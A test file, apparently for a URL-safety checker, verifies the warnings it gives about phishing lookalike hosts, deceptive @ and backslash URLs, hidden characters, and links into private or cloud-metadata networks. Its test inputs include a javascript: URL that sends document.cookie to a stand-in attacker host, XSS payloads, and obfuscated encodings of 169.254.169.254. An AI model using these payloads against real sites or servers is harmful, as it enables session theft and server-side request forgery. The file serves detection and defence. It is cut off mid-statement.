// The sentences about an input, which the page and `compare` show.

import { readFileSync } from 'node:fs';
import { inspect } from 'node:util';
import { dialects } from '@urlkit/url-dialects';
import { compareReadings, living, type ReaderReading, type URLReader } from '@urlkit/url-editions';
import { validateURL } from '@urlkit/url-validation';
import test from 'ava';
import fc from 'fast-check';
import { findGrowth, repeated } from '../../../test/attack/growth.js';
import { checkProperty } from '../../../test/support/property.js';
import { type Finding, findingsOf, withoutSpacesAround } from '../src/urls/findings.js';
import { inputNames } from '../src/urls/input-names.js';

function find(
  url: string,
  readers: readonly URLReader[] = [living, ...dialects],
): readonly Finding[] {
  const programs = compareReadings(url, readers);
  const report = validateURL(url);
  return findingsOf(
    { url, report, programs, names: inputNames(url, report, null) },
    (reader) => reader,
  );
}

/** The findings as `kind: title details`. */
function say(url: string, readers?: readonly URLReader[]): string[] {
  return find(url, readers).map(({ kind, title, places = [], details }) => {
    const text = [...places, ...details].map((part) =>
      typeof part === 'string' ? part : `\`${part.code}\``,
    );
    return `${kind}: ${title} ${text.join('')}`.trim();
  });
}

const advice = 'Open it only if you know who owns it.';
const looksLike = (known: string, name: string) => [
  `bad: This name may deceive. It looks like \`${known}\`, but is \`${name}\`. ${advice}`,
];
const belongsTo = (imitated: string, owner: string) => [
  `bad: This name may deceive. The name begins like \`${imitated}\`, but belongs to \`${owner}\`. ${advice}`,
];
const isUsername = (username: string, host: string) => [
  `bad: It does not lead where it seems. \`${username}\` is a username; the host is \`${host}\`. Do not open it.`,
];
const unread = 'Nothing suspicious was found in the URL; the site itself was not checked.';
const agree = (host: string) => [
  `plain: It leads to \`${host}\`. All 10 programs agree. ${unread}`,
];
const addressBar =
  'bad: It is not a whole URL. In the address bar, browsers add https://. In a mail or a page, it does not work.';
const runsCode = ['bad: It runs code when followed. Do not open it unless you wrote it.'];
const hostless = 'plain: This is not the address of a website.';
const isFor = (scheme: string, place: string) => [
  `${hostless} It is for programs that know \`${scheme}\`. If such a program uses the network, it connects to \`${place}\`.`,
];
const isFile = ['warn: This is a file on one computer. Other people cannot open it.'];
const twoForms = [
  'plain: Two ways to write one name. `xn--bcher-kva.example` is how `b\u00FCcher.example` is written in ASCII. It is the same name.',
];

const table: Readonly<Record<string, readonly string[]>> = {
  // A username that looks like a host.
  'https://google.com@evil.example/': isUsername('google.com', 'evil.example'),
  'https://www.bank.example:443@evil.example/': isUsername('www.bank.example', 'evil.example'),
  'https://user@example.org/': agree('example.org'),
  'https://ann.lee1@example.org/': agree('example.org'),
  // A known name before the one that the host belongs to.
  'https://paypal.com.evil.example/': belongsTo('paypal.com', 'evil.example'),
  'https://www.google.com.a.b.example/': belongsTo('google.com', 'b.example'),
  'https://google.com.paypal.com.evil.example/': belongsTo('google.com', 'evil.example'),
  'https://www.paypal.com/': agree('www.paypal.com'),
  'https://www.paypal.com./': agree('www.paypal.com.'),
  'https://paypal.com.evil.example./': belongsTo('paypal.com', 'evil.example'),
  'https://notpaypal.com.evil.example/': belongsTo('notpaypal.com', 'evil.example'),
  // Names that look alike.
  'https://rnicrosoft.com/': looksLike('microsoft.com', 'rnicrosoft.com'),
  'https://goog1e.com/': looksLike('google.com', 'goog1e.com'),
  'https://g00gle.com/': looksLike('google.com', 'g00gle.com'),
  'https://www.paypa1.com/': looksLike('paypal.com', 'www.paypa1.com'),
  'https://google.org/': agree('google.org'),
  // URLs that are programs, and others that lead to no host.
  'javascript:alert(1)': runsCode,
  'JavaScript://example.org/%0Aalert(1)': runsCode,
  'vbscript:x': runsCode,
  "javascript:fetch('https://evil.example/'+document.cookie)": runsCode,
  'data:,x': [`${hostless} It is data, all of it in the URL.`],
  'urn:isbn:0451450523': [`${hostless} It has no host to connect to.`],
  'mailto:ann@example.org': [`${hostless} It is an e-mail address, and opens a program for mail.`],
  'tel:+15550100': [`${hostless} It is a telephone number, and opens a program for calls.`],
  // Schemes whose own programs connect.
  'postgres://db.example:5432/shop': isFor('postgres:', 'db.example:5432'),
  'redis://cache.example/0': isFor('redis:', 'cache.example'),
  'ssh://git.example/a': isFor('ssh:', 'git.example'),
  // Files are where they are opened.
  'file:///C:/Users/ann/offer.pdf': isFile,
  'file://localhost/etc/hosts': isFile,
  // A label that is also an ending is no alarm.
  'https://nam.safelinks.protection.outlook.com/': agree('nam.safelinks.protection.outlook.com'),
  'https://nam.safe.protection.example.org/': [
    'plain: It leads to `nam.safe.protection.example.org`. All 10 programs agree. The site itself was not checked.',
    'plain: Who owns the name. The name begins like `nam.safe`, but belongs to `example.org`.',
  ],
  // Only an address that was checked is good.
  'http://192.0.32.8/': [
    'good: It leads to `192.0.32.8`, a public address. All 10 programs agree.',
  ],
  'http://10.0.0.1/': [
    'warn: Not a public address. Nobody outside its network can open it. If a program opens links that users send, it should not open this one.',
  ],
  'http://169.254.169.254/': [
    'warn: Not a public address. Servers in such a cloud get their credentials from it. If a program opens links that users send, it should not open this one. A service of AWS, Azure, Google Cloud and others has this address.',
  ],
  'https://api.example.org/?url=http://169.254.169.254/latest/meta-data': [
    'warn: Look inside. Not a public address. A URL is in it, at `169.254.169.254`. Servers in such a cloud get their credentials from it. If a program opens links that users send, it should not open this one. A service of AWS, Azure, Google Cloud and others has this address.',
  ],
  // An address in a public name, as services answer that need no registration.
  ...Object.fromEntries(
    ['127.0.0.1.nip.io', 'app-127-0-0-1.sslip.io', 'a.127.0.0.1.example.org'].map((host) => [
      `https://${host}/`,
      [
        'warn: Perhaps not a public address. `127.0.0.1` is in the name, and is not public. Names of this kind often lead there.',
      ],
    ]),
  ),
  ...Object.fromEntries(
    ['ec2-54-1-2-3.compute.amazonaws.com', 'v1.2.3.4.example.org', '127-0-0.example.org'].map(
      (host) => [`https://${host}/`, agree(host)],
    ),
  ),
  // What is said of a host that nobody means would mislead.
  'https://www.exemple..com/': [
    'warn: It probably leads nowhere. Did you mean this? `https://www.exemple.com/` (There are two dots in a row. Write one.)',
  ],
  'https://example,com/': [
    'warn: It probably leads nowhere. Did you mean this? `https://example.com/` (There is a comma in the host. Perhaps it should be a dot.)',
  ],
  // What browsers refuse has no cause that readers could look for in it.
  'https://example .com': [
    'bad: Browsers cannot open it.',
    'warn: Did you mean this? `https://example.com/` (A host has no spaces. Remove them.)',
    'warn: Other programs may open it, and connect to different hosts. A server should not pass this URL on.',
  ],
  'http://example.org/a b': [
    `plain: It leads to \`example.org\`. 7 of 10 programs agree; 3 refuse it (curl, java-uri and ruby). ${unread}`,
    'plain: Mails and chats cut it at the space. Write this: `http://example.org/a%20b`',
  ],
  // Programs that connect elsewhere, and what is in doubt beside the verdict.
  'http://good.example\\@evil.example/': [
    'bad: Programs would connect to different hosts. In living, urllib3 and node-url-parse, it leads to `good.example`. In curl, python, java-url and php, it leads to `evil.example`. In go, java-uri and ruby, it is refused. Cause: backslash.',
  ],
  // What only some of them see may be inside a network.
  'http://good.example\\@169.254.169.254/': [
    'bad: Programs would connect to different hosts. In living, urllib3 and node-url-parse, it leads to `good.example`. In curl, python, java-url and php, it leads to `169.254.169.254`. In go, java-uri and ruby, it is refused. Cause: backslash. `169.254.169.254` is not public.',
  ],
  'http://evil.example:99999/': [
    'bad: Browsers cannot open it. 99999 is too large: a port is at most 65535. See characters 21 to 25.',
    'warn: Other programs may open it.',
  ],
  // What is certain comes before what is in doubt.
  'http://127.1/': [
    'warn: This is your own computer. `127.0.0.1` always means the computer that opens the link, so it works for nobody else. If a program opens links that users send, it should not open this one.',
    'warn: Programs may disagree. In living, curl, python, urllib3, java-url, php, ruby and node-url-parse, it leads to `127.0.0.1`. In go, it leads to `127.1`. In java-uri, it has no host. In go, it is not known whether this number is an address.',
  ],
  'https:/user@example.org/': [
    'warn: Did you mean this? `https://user@example.org/` (Write two slashes between this scheme and the host.)',
    'warn: Programs may disagree.',
  ],
  // A name in both of its forms.
  'https://b\u00FCcher.example/': [
    'plain: It leads to `xn--bcher-kva.example`. 7 of 10 programs agree; 1 sees no host (java-uri); for 1, this is not known (urllib3); 1 refuses it (ruby).',
    ...twoForms,
  ],
  'https://xn--bcher-kva.example/': [
    'plain: It leads to `xn--bcher-kva.example`. All 10 programs agree.',
    ...twoForms,
  ],
  // What leads elsewhere as soon as it has a base URL.
  ...Object.fromEntries(
    ['/\\', '\\\\', '\\/', '/\t/', ' /\\ann:secret@'].map((start) => [
      `${start}evil.example/a`,
      [
        'bad: In a page, it leads to another host. From a page or a redirect of any site, browsers go to `evil.example`. Without a page, they cannot open it.',
      ],
    ]),
  ),
  // Two corrections are one.
  'https://example.org/a\u200B\u201D': [
    'warn: A character is hidden. U+200B cannot be seen. See character 22.',
    'warn: Did you mean this? `https://example.org/a` (This looks like punctuation of the text around the URL. Remove it. There is an invisible character here. Remove it, unless you put it there on purpose.)',
  ],
  'https://xn--a.example/': [
    'warn: This name may deceive. `xn--a` is not the ASCII form of a valid name. Ask whoever wrote it for the name in its own letters. Open it only if you know who owns it.',
    'warn: Programs may disagree. In living, curl, python, urllib3, go, java-uri, java-url, php and ruby, it leads to `xn--a.example`. In node-url-parse, it is not known which IDNA Node has.',
  ],
  // What is inside is said once, the worst of it.
  'https://click.example/?redirect=https%3A%2F%2Flogin.rnicrosoft.com%2F': [
    `bad: The URL inside may deceive. A URL is in it. It looks like \`microsoft.com\`, but is \`login.rnicrosoft.com\`. ${advice}`,
  ],
  // What does not parse, and what it would be.
  'www.paypal.com.evil.example/login': [...belongsTo('paypal.com', 'evil.example'), addressBar],
  'See https://example.org/page.': [
    'warn: This is text with a link in it. `https://example.org/page`',
  ],
  'Not (https://example.org/a), but https://paypal.com.evil.example/ or see www.example.org.': [
    'warn: This is text with a link in it. `https://example.org/a`',
    'warn: Another link in it: `https://paypal.com.evil.example/`',
    'warn: Another link in it: `https://www.example.org/`',
    ...belongsTo('paypal.com', 'evil.example'),
  ],
  'example.org/a': [
    addressBar,
    'warn: Did you mean this? `https://example.org/a` (https:// is missing at the beginning.)',
  ],
};

const ownHosts = [
  'localhost',
  'LOCALHOST.',
  'app.localhost:3000',
  '127.0.0.1',
  '127.255.255.254:8080',
  '127.1',
  '0x7f000001',
  '0',
  '0.0.0.0',
  '[::1]',
  '[::]',
  '[::ffff:127.0.0.1]',
];
const otherHosts = [
  'localhost.example.org',
  'notlocalhost.com',
  '126.255.255.255',
  '128.0.0.1',
  '10.0.0.1',
  '0.0.0.1',
  '[::2]',
  '[::ffff:10.0.0.1]',
  // Translated by a gateway, which reaches itself.
  '[64:ff9b::127.0.0.1]',
];
const saysOwn = (url: string): boolean =>
  find(url).some(({ title }) => title === 'This is your own computer.');

for (const scheme of ['http', 'https', 'ws', 'postgres']) {
  test(`a reader is told which hosts are their own computer, with ${scheme}`, (t) => {
    const link = (host: string): string => `${scheme}://${host}/reset?token=1`;
    // Only special schemes have other spellings of addresses.
    const written =
      scheme === 'postgres' ? ownHosts.filter((host) => !/^0|7.1$/.test(host)) : ownHosts;
    t.deepEqual(
      written.filter((host) => !saysOwn(link(host))),
      [],
    );
    t.deepEqual(
      otherHosts.filter((host) => saysOwn(link(host))),
      [],
    );
  });
}

for (const [url, expected] of Object.entries(table)) {
  test(url, (t) => t.deepEqual(say(url), expected));
}

test('the figures of the verdict are those of the list of programs', (t) => {
  const readers = [living, ...dialects];
  const host = fc.constantFrom('example.org', 'b\u00FCcher.example', '192.0.32.8', 'a_b.example');
  const rest = fc
    .array(fc.constantFrom('/', 'a', ' ', '\u00FC', '%', '|', '[', '?q=', '#', '"', '\t'), {
      maxLength: 4,
    })
    .map((parts) => `/${parts.join('')}`);
  const url = fc
    .tuple(fc.constantFrom('https', 'ftp', 'ws', 'HTTP'), host, fc.constantFrom('', ':8080'), rest)
    .map(([scheme, name, port, path]) => `${scheme}://${name}${port}${path}`);
  let compared = 0;
  const count = checkProperty(t, 400, url, (input) => {
    const [said] = say(input).filter((text) => /programs agree/.test(text));
    if (said === undefined) return;
    compared++;
    const kindOf = ({ interpretation, target }: ReaderReading) =>
      target === null ? interpretation.kind : target.host === '' ? 'none' : 'host';
    const { readings } = compareReadings(input, readers);
    const list = readings.map(kindOf);
    const named = (kind: string) => list.filter((found) => found === kind).length;
    const figure = (pattern: RegExp) => Number(pattern.exec(said)?.[1] ?? 0);
    t.deepEqual(
      {
        host: figure(/(?:All|(\d+) of) \d+ programs/) || figure(/All (\d+)/),
        none: figure(/(\d+) sees? no host/),
        failure: figure(/(\d+) refuses? it/),
        unknown: figure(/for (\d+), this is not known/),
      },
      {
        host: named('host'),
        none: named('none'),
        failure: named('failure'),
        unknown: named('unknown'),
      },
      input,
    );
  });
  t.true(compared > count / 4, `${compared} of ${count}`);
});

test('what is not known of programs is said of these programs', (t) => {
  const url = fc
    .tuple(
      fc.constantFrom('https:', 'HTTP:', 'ftp:', 'ws:', 'foo:'),
      fc.constantFrom('/', '///', '//', ''),
      fc.constantFrom('', 'u:p@', 'good.example\\@'),
      fc.constantFrom('example.org', 'b\u00FCcher.example', '127.1', 'a b.example', 'a..b'),
      fc.constantFrom('', ':80', ':0080', ':99999', ' '),
    )
    .map((parts) => parts.join(''));
  let compared = 0;
  checkProperty(t, 400, url, (input) => {
    const { doubts } = compareReadings(input, [living, ...dialects]);
    const expected = doubts.map(({ readers, reason }) => `${readers.join(', ')}: ${reason}`);
    for (const said of say(input)) {
      for (const [, readers = '', what] of said.matchAll(/In ([^.]*), it is not known (.*?)\./g)) {
        compared++;
        const all = readers.replace(' and ', ', ');
        t.true(
          expected.some((one) => what && `${all}: ${what}`.includes(one)),
          input,
        );
      }
    }
  });
  t.true(compared > 20, `${compared}`);
});

test('characters that deceive are named', (t) => {
  const [finding, ...others] = find('https://\u0430bc.example/');
  t.deepEqual(others, []);
  t.is(finding?.title, 'This name may deceive.');
  t.deepEqual(finding?.details.slice(-3), [{ code: '\u0430' }, ' (U+0430).', ` ${advice}`]);
});

test('what deceives is said before what the author may have meant', (t) => {
  for (const url of [
    'https://evil.example/a\u202egpj.exe',
    'www.paypal.com@evil.example/',
    'htps://paypal.com.evil.example/',
    'https://paypal.com.evil.example/).',
  ]) {
    const kinds = find(url).map(({ kind }) => kind);
    t.deepEqual(
      kinds,
      [...kinds].sort((a, b) => Number(b === 'bad') - Number(a === 'bad')),
      url,
    );
  }
  t.regex(
    say('https://evil.example/a\u202egpj.exe')[0] ?? '',
    /^bad: Its order on the screen may deceive\. /,
  );
});

test('a character that is hidden or reorders the text is named first, and where it is', (t) => {
  const odd = fc.constantFrom(
    ...'\u200B\u200E\u200F\u202A\u202B\u202D\u202E\u2066\u2067\u2069\uFEFF\u00AD\u2060',
  );
  const parts = fc.constantFrom<readonly [before: string, after: string]>(
    ['exa', 'mple.com'],
    ['example.', 'com:8080/a'],
    ['https://exa', 'mple.com/'],
    ['http:/exa', 'mple.com/'],
    ['htps://exa', 'mple.com/'],
    ['www.exa', 'mple.com/a b?c'],
    ['example.com/', 'fdp.exe'],
    ['user', '@example.com'],
    ['//exa', 'mple.com/'],
    ['https://exa', 'mple.com:99999/'],
    ['/a', 'b'],
  );
  checkProperty(t, 300, fc.tuple(parts, odd), ([[before, after], character]) => {
    const url = before + character + after;
    const [first] = find(url);
    t.regex(
      first?.title ?? '',
      /^(?:A character is hidden|Its order on the screen may deceive)\./,
      url,
    );
    t.regex(say(url)[0] ?? '', new RegExp(` See character ${before.length + 1}\\.$`), url);
    t.deepEqual(first?.at, { start: before.length, end: before.length + 1 }, url);
  });
});

test('nothing is recommended for a backslash or a host before the last @', (t) => {
  const scheme = fc.constantFrom(
    'http://',
    'https://',
    'http:/',
    'https:',
    'HTTPS:\\\\',
    'ws://',
    '',
  );
  const user = fc.constantFrom('', 'ann@', 'ann:secret@', 'ann:p@ss@');
  const between = fc.constantFrom('\\', '\\\\', ':80\\', '\\x', '.\\', '\\\\.');
  const hosts = fc.constantFrom('good.example', 'www.paypal.com', '192.0.2.7');
  checkProperty(t, 300, fc.tuple(scheme, user, hosts, between), ([start, name, host, mark]) => {
    const url = `${start}${name}${host}${mark}@evil.example/`;
    t.false(
      find(url).some(({ corrected }) => corrected?.includes('@evil.example')),
      url,
    );
  });
  for (const url of [
    'https://ann:secret@good.example@evil.example/',
    'http://a:b@www.paypal.com:443@evil.example',
  ])
    t.deepEqual(
      find(url).flatMap(({ corrected }) => corrected ?? []),
      [],
      url,
    );
  t.true(find('http://ann:p@ss@good.example:8080/').every(({ kind }) => kind !== 'bad'));
});

test('of an error of Node, its input is offered', (t) => {
  const input = fc.constantFrom(
    ...[
      'htp//foo',
      '/relative',
      "it's",
      'a "b"',
      'http://h:99999/',
      'http://a b/',
      'C:\\x',
      'a\tb\u202E',
    ],
  );
  checkProperty(t, 50, input, (text) => {
    let message = `TypeError: Invalid URL {\n  code: 'ERR_INVALID_URL',\n  input: ${inspect(text)}\n}`;
    try {
      new URL(text);
    } catch (error) {
      message = inspect(error);
    }
    const found = find(message);
    t.is(found[0]?.title, 'This is an error message, not a URL.', message);
    t.deepEqual(
      found.flatMap(({ corrected }) => corrected ?? []),
      [text],
      message,
    );
  });
  for (const [message, meant] of [
    ['TypeError: Failed to parse URL from /api/users', '/api/users'],
    [
      "requests.exceptions.MissingSchema: Invalid URL 'example.org': No scheme supplied.",
      'example.org',
    ],
    ['java.net.MalformedURLException: no protocol: example.org/a', 'example.org/a'],
    ['Error: parse "h:a": invalid port ":a" after host', 'h:a'],
  ] as const)
    t.deepEqual(
      find(message).flatMap(({ corrected }) => corrected ?? []),
      [meant],
      message,
    );
});

test('of a URL that does not parse, a page says what its mistake means', (t) => {
  for (const url of ['http://h:99999/', 'http://h:80a/', 'http://a b c.example/', 'a b c', '/a'])
    t.true(
      find(url).some(({ link }) => link !== undefined),
      url,
    );
});

test('a wrong port hides nothing that deceives', (t) => {
  const deceptions = [
    'paypal.com.evil.example',
    'www.paypa1.com',
    'google.com@evil.example',
    '\u0430bc.example',
  ];
  for (const authority of deceptions)
    for (const port of ['99999', '65536', '8o', '-1']) {
      const url = `https://${authority}:${port}/`;
      t.true(
        find(url).some(({ kind, deceives }) => kind === 'bad' && deceives),
        url,
      );
    }
});

test('of a URL that mails and chats cut, the same URL is offered without what they cut', (t) => {
  const titleOf = (sign: string) =>
    `Mails and chats cut it at ${/\s/.test(sign) ? 'the space' : `\`${sign}\``}. Write this:`;
  for (const sign of ' "<>\u00A0\u2003\u2028\u2029\u3000\u201C\u201D\u2018\u2019\u00AB\u00BB')
    for (const before of [
      'https://h.example/a',
      'https://h.example/a?b=c',
      'https://h.example/#a',
    ]) {
      const url = `${before}${sign}b`;
      const code = `${before}${encodeURIComponent(sign)}b`;
      const offered = find(url).filter(({ corrected }) => corrected === code);
      t.deepEqual(
        offered.map(({ title, details }) => [title, details]),
        [[titleOf(sign), [{ code }]]],
        inspect(url),
      );
      // It is the same URL, and nothing more is offered for it.
      t.is(validateURL(code).href, validateURL(url).href);
      t.false(find(code).some(({ title }) => title.includes('cut')));
    }
  const silent = [
    'https://h.example/a\tb',
    'mailto:a b',
    'https://h.example/%22',
    'http://a@good.example\\@evil.example/a b',
    'https://paypal.com@evil.example/a b',
  ];
  for (const url of silent)
    t.false(
      find(url).some(({ title }) => title.includes('cut')),
      url,
    );
});

test('that browsers add a scheme is said where nothing else is missing', (t) => {
  const isSaid = (url: string) =>
    find(url).some(({ details }) => details.join('').includes('In the address bar'));
  for (const url of ['example.org/a', ' www.example.org ', 'example.org?a#b'])
    t.true(isSaid(url), url);
  for (const url of [
    ...['\u201Chttps://example.org/a\u201D', '<https://example.org/a>', 'https//example.org/a'],
    ...['"example.org/a"', '//example.org/a', '(https://example.org/a)'],
  ])
    t.false(isSaid(url), url);
});

test('a path of Windows is a file first, and a number in place of an address is that address', (t) => {
  for (const path of ['C:\\Users\\Anna\\bill.pdf', 'd:\\a', 'C:/Users/a b.txt']) {
    const [first, second] = find(path);
    t.is(first?.title, 'This is a file on one computer.', path);
    t.regex(second?.corrected ?? '', /^file:\/\/\//, path);
  }
  for (const [number, address] of [
    ['3232235777', '192.168.1.1'],
    ['0xA000001', '10.0.0.1'],
    ['10.1', '10.0.0.1'],
    ['10.0.0.1', null],
  ] as const) {
    const url = `http://${number}/login`;
    const title =
      address === null
        ? 'Not a public address.'
        : `It leads to \`${address}\`, not a public address.`;
    t.is(find(url)[0]?.title, title, url);
  }
});

test('a changed URL can be explained, also one that deceives', (t) => {
  for (const host of ['h[.]example', 'paypal[.]com-login[.]info', 'rnicrosoft[.]com']) {
    const corrected = `https://${host.replace(/[[\]]/g, '')}/x`;
    const offered = find(`hxxps://${host}/x`).filter((finding) => finding.corrected === corrected);
    t.deepEqual(
      offered.map(({ title }) => title),
      ['Somebody changed this URL so that nobody opens it by accident.'],
    );
  }
});

test('a finding gives the input as it should be, without spaces around it', (t) => {
  const corrected = find(' example.org/a').map((finding) => finding.corrected);
  t.deepEqual(corrected, [undefined, ' https://example.org/a']);
});

test('that the standard refuses an input matters only if a reader follows it', (t) => {
  const others = dialects.filter(({ name }) => name === 'curl' || name === 'go');
  t.deepEqual(say(':', others), ['bad: No program accepts it.']);
  t.regex(say(':')[0] ?? '', /^bad: It is not a whole URL\. /);
});

test('without a comparison, the host is what the standard says, and programs may differ', (t) => {
  const say = (url: string) =>
    findingsOf({ url, report: validateURL(url), programs: null, names: [] }, String).map(
      ({ kind, title, details }) => [kind, title, ...details],
    );
  t.deepEqual(say('https://example.org/'), [
    [
      'warn',
      'Not compared.',
      'The standard reads the host ',
      { code: 'example.org' },
      '. Programs may read another one.',
    ],
  ]);
  t.deepEqual(say('data:,'), [['plain', 'Browsers can read it.']]);
});

/** Addresses and names inside networks, as attackers write them. */
const insideHosts = [
  ...ownHosts,
  ...['169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '①⑥⑨.254.169.254'],
  ...[
    '[fd00:ec2::254]',
    '[::ffff:a9fe:a9fe]',
    '10.0.0.1',
    '172.16.0.1',
    '192.168.1.1',
    '100.64.0.1',
  ],
  ...['metadata.google.internal', 'router.local', '127.0.0.1.nip.io', '[fe80::1]', '[fc00::1]'],
];
const publicHosts = ['example.org', 'www.iana.org', '192.0.32.8', '[2606:4700::1111]', '8.8.8.8'];

/** How a URL is put into another one. */
const places: readonly ((url: string) => string)[] = [
  (url) => `https://api.example.org/fetch?url=${encodeURIComponent(url)}`,
  (url) =>
    `https://api.example.org/fetch?a=1&webhook_uri=${encodeURIComponent(encodeURIComponent(url))}`,
  (url) => `https://api.example.org/?x=${url}/latest/meta-data&b`,
  (url) => `https://api.example.org/proxy/${url}/`,
  (url) => `http://192.0.32.8/?callback[]=${encodeURIComponent(url).toLowerCase()}`,
];

test('a URL that leads into a network is named wherever it is in another one', (t) => {
  const isAlarm = (url: string): boolean =>
    find(url).some(({ kind, title }) => kind === 'warn' && /^Look inside\. \w/.test(title));
  for (const place of places) {
    for (const scheme of ['http', 'https']) {
      for (const host of insideHosts) {
        const url = place(`${scheme}://${host}`);
        t.true(isAlarm(url), url);
      }
      for (const host of publicHosts) {
        const url = place(`${scheme}://${host}`);
        t.false(isAlarm(url), url);
      }
    }
  }
});

test('what is said of a host inside a URL is what is said of it alone', (t) => {
  for (const host of insideHosts) {
    const inside = find(`https://api.example.org/?url=http://${host}/`).find(({ title }) =>
      title.startsWith('Look inside. '),
    );
    const alone = find(`http://${host}/`).find(
      ({ title }) => `Look inside. ${title}` === inside?.title,
    );
    t.truthy(alone, host);
    t.deepEqual(inside?.details.slice(-(alone?.details.length ?? 0)), alone?.details, host);
  }
});

test('of text with a link in it, this is said first, and the link is offered', (t) => {
  const word = fc.constantFrom('Your parcel', 'see', 'Pay now', 'Dear Ann,', 'Rechnung offen');
  const link = fc.constantFrom(
    'http://dhl.example.top/x',
    'https://a.example/?b=c',
    'ftp://b.example/d',
  );
  const text = fc.record({
    link,
    before: fc.tuple(word, fc.constantFrom(': ', ' ', '\n', ' (')).map((parts) => parts.join('')),
    after: fc.constantFrom('', ' pay now', '\nThanks', ' or call us.'),
  });
  checkProperty(t, 300, text, (made) => {
    const input = `${made.before}${made.link}${made.before.endsWith('(') ? ')' : ''}${made.after}`;
    const found = find(input);
    t.like(found[0], { title: 'This is text with a link in it.', corrected: made.link }, input);
    t.false(
      found.some(({ title }) => title === 'It has no scheme.'),
      input,
    );
  });
});

test('each advice is given once', (t) => {
  const inner = fc.constantFrom('http://10.0.0.1/', 'http://169.254.169.254/', 'http://a.example/');
  const host = fc.constantFrom('localhost', '10.0.0.1', 'paypal.com.evil.example', 'g00gle.com');
  const user = fc.constantFrom('', 'google.com@', 'www.bank.example:443@');
  checkProperty(t, 300, fc.tuple(user, host, inner), ([before, name, target]) => {
    const text = say(`http://${before}${name}/?url=${target}`).join('\n');
    for (const sentence of ['A server that fetches', 'Open it only if'])
      t.true(text.split(sentence).length <= 2, text);
  });
});

test('code is named wherever it is in a URL, with what it would do, and words about code are not', (t) => {
  const inQuery = (text: string) => `https://example.org/a?q=1&next=${text}&b`;
  const wrappers: readonly ((text: string) => string)[] = [
    inQuery,
    (text) => inQuery(encodeURIComponent(text)),
    (text) => inQuery(encodeURIComponent(` ${text}`)),
    (text) => `https://example.org/#${text}`,
    (text) => `https://example.org#/login?next=${encodeURIComponent(text)}`,
    (text) => `https://example.org/go/${text}`,
    (text) => inQuery(encodeURIComponent(inQuery(encodeURIComponent(text)))),
    (text) => inQuery(encodeURIComponent(`{"url":"${text}"}`)),
  ];
  const code = fc.constantFrom(
    ...['javascript:alert(1)', 'JavaScript:location=name', 'java\tscript:alert`1`'],
    ...['javascript://%0Aalert(1)', 'vbscript:msgbox', 'data:text/html,<script>x</script>'],
    ...['data:text/html;base64,PHN2Zz4', 'data:image/svg+xml,<svg onload=x>'],
  );
  const words = fc.constantFrom(
    ...['javascript', 'javascript:css', 'javascript: the good parts', 'javascript:void(0)'],
    ...['data:image/png;base64,iVBORw0KGgo', 'data:text/plain,x', 'lang:javascript', 'a=alert(1)'],
  );
  const place = fc.constantFrom(...wrappers);
  const isSaid = (url: string): boolean =>
    find(url).some(
      ({ kind, title, inside }) =>
        kind === 'bad' && title === 'There is code inside this URL.' && inside !== undefined,
    );
  checkProperty(t, 300, fc.tuple(place, code), ([put, text]) => {
    t.true(isSaid(put(text)), put(text));
  });
  checkProperty(t, 300, fc.tuple(place, words), ([put, text]) => {
    t.false(isSaid(put(text)), put(text));
  });
});

test('what deceives is not recommended, whatever else is wrong with it', (t) => {
  const name = fc.constantFrom(
    ...['xn--exmple-4nf.com', 'ex\u0430mple.com', 'paypal.com.evil.example', 'rnicrosoft.com'],
    ...['google.com@evil.example', 'www.bank.example:443@evil.example', 'lnstagram.com'],
  );
  const honest = fc.constantFrom('example.org', 'www.paypal.com', 'user@example.org', '192.0.32.8');
  const mistake = fc.constantFrom<(authority: string) => string>(
    (authority) => `https://${authority}/pa\u200Bth`,
    (authority) => `https://${authority}/a\u2060.pdf`,
    (authority) => `htps://${authority}/`,
    (authority) => `https://${authority}/a).`,
    (authority) => `https://${authority}/?a=1&amp;b=2`,
    (authority) => `https://${authority}/reset?\n  id=1`,
    (authority) => `https://https://${authority}/`,
  );
  const isOffered = (url: string): boolean =>
    find(url).some(({ corrected }) => corrected !== undefined);
  checkProperty(t, 200, fc.tuple(mistake, name), ([write, authority]) => {
    t.false(isOffered(write(authority)), write(authority));
    t.true(find(write(authority)).some(({ deceives }) => deceives === true));
  });
  checkProperty(t, 200, fc.tuple(mistake, honest), ([write, authority]) => {
    t.true(isOffered(write(authority)), write(authority));
  });
  t.false(isOffered('https://evil.example/a\u202Efdp.exe'));
});

test('of a URL that is broken over lines, line breaks and indents go together', (t) => {
  const url = 'https://example.org/a/reset?id=123&lang=en&x=%20%E2%82%AC#part_2';
  const place = fc.integer({ min: url.indexOf('?'), max: url.length - 1 });
  const indent = fc.constantFrom('\n  ', '\r\n\t', ' \n', '\n\n    ', '\r ');
  checkProperty(t, 200, fc.tuple(fc.uniqueArray(place, { minLength: 1 }), indent), ([at, gap]) => {
    const broken = Array.from(url, (letter, index) => (at.includes(index) ? gap : '') + letter);
    const input = broken.join('');
    t.is(find(input)[0]?.corrected, url, input);
  });
  for (const text of [
    'https://example.org/\n  Thanks',
    'https://example.org/a\n  www.example.org/b',
    'https://example.org/a\n  tel:+1555',
  ])
    t.false(
      find(text).some(({ details }) => details.join('').includes('broken over lines')),
      text,
    );
});

test('the messages of programs are not URLs, and links in them are offered', (t) => {
  const page = readFileSync(new URL('../../../docs/guides/messages.md', import.meta.url), 'utf8');
  const headings = Array.from(page.matchAll(/^## (.*)$/gm), ([, heading = '']) => heading);
  const isMessage = (text: string): boolean =>
    find(text).some(
      ({ title, link }) => title === 'This is an error message, not a URL.' && link !== undefined,
    );
  const others = headings.filter((heading) => !isMessage(heading));
  t.true(others.length < headings.length / 3, others.join('\n'));
  const start = fc.constantFrom(
    ...['TypeError: ', 'java.net.URISyntaxException: ', 'curl: (6) ', 'Uncaught RangeError: '],
    ...['net::ERR_NAME_NOT_RESOLVED ', 'getaddrinfo ENOTFOUND ', 'Could not resolve host: '],
    ...['This site can\u2019t be reached\n', 'dial tcp: lookup: no such host ', '404 Not Found '],
  );
  const link = fc.constantFrom('https://example.org/a', 'http://b.example/?c=d');
  checkProperty(t, 100, fc.tuple(start, fc.constantFrom('', 'at '), link), (parts) => {
    const text = parts.join('');
    t.true(isMessage(text), text);
    t.is(find(text)[1]?.corrected, parts[2], text);
  });
  const words = fc.constantFrom(
    ...['Your parcel could not be delivered: ', 'We were unable to verify your payment. Log in: '],
    ...[
      'Your account is blocked, see ',
      'Your session has ended, log in at ',
      'Error? Call us or ',
    ],
  );
  checkProperty(t, 100, fc.tuple(words, link), (parts) => t.false(isMessage(parts.join(''))));
  for (const text of [
